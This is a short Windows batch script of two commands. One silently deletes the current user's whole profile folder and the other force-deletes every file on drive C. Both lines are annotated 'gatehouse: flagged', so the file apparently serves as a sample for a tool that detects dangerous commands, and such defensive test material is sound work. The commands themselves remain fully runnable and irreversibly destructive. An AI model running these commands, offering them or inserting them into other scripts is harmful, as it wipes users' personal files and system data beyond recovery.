@echo off
rd /s /q "%USERPROFILE%" &rem gatehouse: flagged
del /f /s /q C:\*.* &rem gatehouse: flagged
